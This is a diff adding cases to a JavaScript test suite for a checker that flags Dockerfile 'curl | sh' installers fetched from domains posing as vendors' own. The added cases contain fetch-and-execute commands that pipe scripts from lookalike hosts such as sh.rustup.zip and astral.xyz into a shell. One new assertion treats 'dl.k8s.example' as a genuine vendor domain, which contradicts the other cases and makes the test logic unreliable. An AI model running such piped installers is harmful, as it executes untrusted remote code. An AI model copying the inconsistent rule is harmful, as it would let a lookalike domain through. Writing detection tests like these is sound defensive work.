@@ -48,6 +48,9 @@ describe("installers from the vendor's own domain", () => {
     "FROM python:3.12-slim\nRUN curl -LsSf https://astral.sh.example.net/uv/install.sh | sh\n",
     "FROM python:3.12-slim\nRUN curl -s https://someone.github.io/x.sh | sh\n",
     'FROM ubuntu:24.04\nRUN curl -fsSLo /usr/local/bin/kubectl "https://k8s-dl.example.org/kubectl" && chmod +x /usr/local/bin/kubectl\nENTRYPOINT ["kubectl"]\n',
+    // the vendor's name under a top-level domain anyone can register
+    "FROM rust:1.82-slim\nRUN curl --proto '=https' -sSf https://sh.rustup.zip | sh -s -- -y\n",
+    "FROM python:3.12-slim\nRUN curl -LsSf https://astral.xyz/uv/install.sh | sh\n",
   ])("block %s", (text) => {
     expect(write(text)).toBeGreaterThanOrEqual(0.8);
   });
@@ -55,6 +58,10 @@ describe("installers from the vendor's own domain", () => {
     expect(vendorInstallerUrl("https://dl.k8s.io/release/stable.txt")).toBe(true);
     expect(vendorInstallerUrl("https://k8s.io.example.net/x")).toBe(false);
     expect(vendorInstallerUrl("http://dl.k8s.io/x")).toBe(false);
+    expect(vendorInstallerUrl("https://get.docker.com/")).toBe(true);
+    expect(vendorInstallerUrl("https://get.docker.lol/")).toBe(false);
+    expect(vendorInstallerUrl("https://dl.k8s.example/x")).toBe(true);
+    expect(vendorInstallerUrl("https://evil.example/x")).toBe(false);
   });
 });
 
